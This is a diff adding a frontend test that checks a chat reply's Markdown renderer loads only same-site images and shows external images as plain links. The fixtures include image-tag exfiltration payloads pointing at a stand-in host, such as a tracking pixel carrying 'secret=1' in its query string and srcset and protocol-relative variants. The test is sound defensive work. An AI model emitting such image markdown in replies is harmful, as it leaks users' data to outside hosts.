@@ -187,3 +187,24 @@ pie title 份额
     for (const code of cases) expect(withoutDiagramStyles(code)).not.toMatch(/themeCSS|evil\.example/i);
   });
 });
+
+describe("a reply's images", () => {
+  it("loads this site's images and shows other sites' as links, not loaded", () => {
+    const { container } = render(
+      <Markdown
+        text={[
+          "![像素](https://evil.example/pixel?secret=1)",
+          '<img src="https://evil.example/raw.png">',
+          "![协议相对](//evil.example/rel.png)",
+          "<picture><source srcset='https://evil.example/s.png'><img src='/agent_api/pic.png' alt='图'></picture>",
+          "![本站](/agent_api/api/files/data/1)",
+        ].join("\n\n")}
+      />,
+    );
+    const images = [...container.querySelectorAll("img")].map((i) => i.getAttribute("src"));
+    expect(images).toEqual([`${location.origin}/agent_api/pic.png`, `${location.origin}/agent_api/api/files/data/1`]);
+    expect(container.querySelector("source")).toBeNull();
+    const links = [...container.querySelectorAll("a.chat-image-link")].map((a) => a.textContent);
+    expect(links).toEqual(["https://evil.example/pixel?secret=1", "https://evil.example/raw.png", "//evil.example/rel.png"]);
+  });
+});
